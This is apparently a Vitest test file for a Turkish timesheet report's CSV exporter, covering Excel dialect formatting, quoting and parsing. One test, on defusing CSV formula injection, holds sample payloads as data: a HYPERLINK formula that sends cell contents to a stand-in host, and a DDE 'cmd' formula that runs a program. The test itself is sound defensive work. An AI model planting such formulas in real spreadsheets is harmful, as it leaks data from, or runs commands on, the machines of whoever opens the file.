import { describe, expect, it } from 'vitest'
import { DETAIL_HEADERS, regionDisplayName, type PuantajReport, type ReportRow } from '../client/report.ts'
import { csvCell, csvDate, parseCsv, reportCsv } from '../client/reportCsv.ts'

function row(over: Partial<ReportRow>): ReportRow {
  return {
    employee_id: 'e1', employee: 'Ayşe Yılmaz', region: 'istanbul', region_name: 'İstanbul', work_date: '2026-01-02',
    start_time: '08:30', end_time: '02:00', break_minutes: 60, is_special: false, notes: null,
    worked: 16.5, scheduled: 9, overtime: 8.5, night: 4, overnight: 2, special_normal: 0, special_overtime: 0, special_night: 0.25,
    ...over,
  } as ReportRow
}

function report(rows: ReportRow[]): PuantajReport {
  return { companyName: '', title: 'Puantaj Raporu', month: '2026-01', start: '2026-01-01', end: '2026-01-31', regions: ['istanbul'], regionNames: ['İstanbul'], rows, totals: [], skipped: [], fileName: 'x' }
}

describe('reportCsv: Turkish Excel dialect', () => {
  it('writes a BOM, ";" separators, decimal commas, GG.AA.YYYY dates and CRLF', () => {
    const csv = reportCsv(report([row({ notes: 'gece işi' })]))
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const lines = csv.slice(1).split('\r\n')
    expect(lines[0]).toBe(DETAIL_HEADERS.join(';'))
    expect(lines[1]).toBe('Ayşe Yılmaz;İstanbul;02.01.2026;08:30;02:00;60;16,5;9;8,5;4;2;Hayir;0;0;0,25;gece işi')
    expect(lines[2]).toBe('')
    expect(lines).toHaveLength(3)
  })

  it('quotes cells holding ";", quotes or line breaks (RFC 4180 with ";"), and reads back the same', () => {
    const notes = 'a;b "c"\r\nikinci satır, virgül'
    const csv = reportCsv(report([row({ notes, employee: 'Şükrü "Usta" Öz' })]))
    expect(csv).toContain('"Şükrü ""Usta"" Öz"')
    expect(csv).toContain('"a;b ""c""\r\nikinci satır, virgül"')
    const rows = parseCsv(csv)
    expect(rows).toHaveLength(2)
    expect(rows[0]).toEqual([...DETAIL_HEADERS])
    expect(rows[1]![0]).toBe('Şükrü "Usta" Öz')
    expect(rows[1]![15]).toBe(notes)
    expect(rows[1]).toHaveLength(DETAIL_HEADERS.length)
  })

  it('cells and dates', () => {
    expect(csvCell(1.25)).toBe('1,25')
    expect(csvCell('1,25')).toBe('1,25')
    expect(csvCell('x;y')).toBe('"x;y"')
    expect(csvCell('')).toBe('')
    expect(csvDate('2026-12-31')).toBe('31.12.2026')
    expect(csvDate('kötü')).toBe('kötü')
    expect(parseCsv('\uFEFFa;"b;c"\r\n;\r\n')).toEqual([['a', 'b;c'], ['', '']])
  })

  it('defuses text Excel would run as a formula (OWASP CSV injection); numbers stay numbers', () => {
    for (const start of ['=', '+', '-', '@', '\t']) expect(csvCell(`${start}1+1`), JSON.stringify(start)).toBe(`'${start}1+1`)
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1;"tıkla")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1;""tıkla"")"`)
    expect(csvCell('\rx')).toBe(`"'\rx"`)
    expect(csvCell('+90 532 000 00 00')).toBe("'+90 532 000 00 00")
    expect(csvCell('- yarım gün')).toBe("'- yarım gün")
    // Inside the text a formula character is harmless: only the first one counts.
    expect(csvCell('1+1=2')).toBe('1+1=2')
    expect(csvCell('a@b.example')).toBe('a@b.example')
    // A negative number, as a number or as this dialect writes one, is read as a number by Excel.
    expect(csvCell(-1.5)).toBe('-1,5')
    expect(csvCell(-60)).toBe('-60')
    expect(csvCell('-1,5')).toBe('-1,5')
    expect(csvCell('-1,5 saat')).toBe("'-1,5 saat")

    const csv = reportCsv(report([row({ employee: '@SUM(A1:A9)', notes: '=1+cmd|" /C calc"!A0', overtime: -1.5 })]))
    const cells = parseCsv(csv)[1]!
    expect(cells[0]).toBe("'@SUM(A1:A9)")
    expect(cells[8]).toBe('-1,5')
    expect(cells[15]).toBe(`'=1+cmd|" /C calc"!A0`)
    // The times and dates of a row are not touched: none starts with a formula character.
    expect(cells.slice(2, 5)).toEqual(['02.01.2026', '08:30', '02:00'])
  })

  it('names regions as people do', () => {
    expect(regionDisplayName('ankara')).toBe('Ankara')
    expect(regionDisplayName('izmir', [{ slug: 'izmir', name: 'İzmir Merkez' }])).toBe('İzmir Merkez')
    expect(regionDisplayName('yeni-bolge')).toBe('yeni-bolge')
  })
})
